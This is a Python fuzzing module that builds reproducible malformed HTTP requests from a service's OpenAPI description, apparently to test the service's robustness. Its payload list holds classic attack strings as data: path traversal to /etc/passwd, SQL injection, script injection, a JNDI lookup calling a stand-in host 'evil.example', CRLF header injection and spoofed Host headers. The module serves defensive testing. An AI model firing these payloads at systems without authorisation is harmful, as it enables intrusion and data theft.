"""Requests that nobody means well with, made from a service's OpenAPI document and a seed: the same seed, the same requests."""

import json
import random
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

TEXTS = (
    "",
    " ",
    "\0",
    "%00",
    "../../../etc/passwd",
    "..%2f..%2f",
    "' or 1=1 --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\u202egnp.exe",
    "\ud800",
    "\uffff",
    "Ð" * 5000,
    "9" * 5000,
    "-1",
    "1e400",
    "NaN",
    "0x7f",
    "null",
    "2026-13-45",
    "0000-00-00",
    "00000000-0000-0000-0000-000000000000",
    "a\r\nset-cookie: x=y",
    "http://evil.example/",
    "//evil.example",
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    2**63,
    2**200,
    1.5e308,
    [],
    {},
    [[[[[]]]]],
    {"$ref": "#"},
    [None] * 300,
    *TEXTS,
)
METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "BREW")
TYPES = (
    "application/json",
    "application/json; charset=utf-7",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "text/plain",
    "application/xml",
    "",
)


@dataclass(frozen=True)
class Target:
    """Where requests go, and what may be put into them."""

    addresses: Sequence[tuple[str, str]]
    """Method and path pattern of what there is."""
    fields: Sequence[str]
    """Names that its bodies and queries know."""


def target_of(document: dict[str, Any], more: Sequence[tuple[str, str]] = ()) -> Target:
    addresses = [(method.upper(), path) for path, operations in document["paths"].items() for method in operations]
    schemas = document.get("components", {}).get("schemas", {}).values()
    fields = {name for schema in schemas for name in schema.get("properties", {})}
    return Target([*addresses, *more], sorted(fields | {"csrf", "key", "file", "tiep"}))


def requests(target: Target, seed: int, count: int, host: str) -> Iterator[tuple[bool, bytes]]:
    """As many whole requests; whether each is to be signed by the sender, who puts the token in for ``@TOKEN@``."""
    chance = random.Random(seed)
    for _ in range(count):
        is_signed = chance.random() < 0.6
        yield is_signed, _request(chance, target, host, is_signed)


def _request(chance: random.Random, target: Target, host: str, is_signed: bool) -> bytes:
    method, pattern = chance.choice(target.addresses)
    if chance.random() < 0.1:
        method = chance.choice(METHODS)
    path = re.sub(r"\{[^}]*\}", lambda _: _written(chance), pattern)
    query = "&".join(f"{chance.choice(target.fields)}={_written(chance)}" for _ in range(chance.randrange(4)))
    headers = [f"Host: {host if chance.random() < 0.9 else 'evil.example'}", "Connection: close"]
    if is_signed:
        headers.append("Authorization: Bearer @TOKEN@")
    if chance.random() < 0.7:
        headers.append(f"Idempotency-Key: {chance.randbytes(12).hex()}")
    if chance.random() < 0.1:
        headers.append(f"Cookie: thidua_session={_written(chance)[:200]}; thidua_form={_written(chance)[:50]}")
    if chance.random() < 0.05:
        headers.append(f"X-Forwarded-For: {_written(chance)[:100]}")
        headers.append("traceparent: 00-zz-1-9")
    kind = chance.choice(TYPES) if chance.random() < 0.4 else TYPES[0]
    body = _body(chance, target, kind)
    headers.append(f"Content-Type: {kind}")
    headers.append(f"Content-Length: {len(body)}")
    head = f"{method} {path}{'?' + query if query else ''} HTTP/1.1\r\n" + "\r\n".join(headers) + "\r\n\r\n"
    return head.encode("latin-1", "replace") + body


def _body(chance: random.Random, target: Target, kind: str) -> bytes:
    fields = {chance.choice(target.fields): chance.choice(VALUES) for _ in range(chance.randrange(8))}
    if chance.random() < 0.05:
        return bytes(chance.choice((b"&", b"[", b'{"a":', b"\xff", b"%", b"--x\r\n"))) * chance.randrange(1, 3000)
    if kind.startswith("application/x-www-form"):
        return "&".join(f"{name}={_quoted(value)}" for name, value in fields.items()).encode()
    if kind.startswith("multipart"):
        parts = [
            f'--x\r\ncontent-disposition: form-data; name="{name}"; filename="{chance.choice(("a.xlsx", "../b", ""))}"\r\n\r\n'.encode()
            + chance.randbytes(chance.randrange(60))
            + b"\r\n"
            for name in fields
        ]
        return b"".join(parts) + (b"--x--\r\n" if chance.random() < 0.8 else b"")
    shaped: Any = [fields] * chance.randrange(1, 3) if chance.random() < 0.2 else fields
    return json.dumps(shaped, allow_nan=True).encode()


def _written(chance: random.Random) -> str:
    return _quoted(chance.choice(TEXTS))[:8000]


def _quoted(value: Any) -> str:
    return quote(str(value).encode("utf-8", "surrogatepass"), safe="")
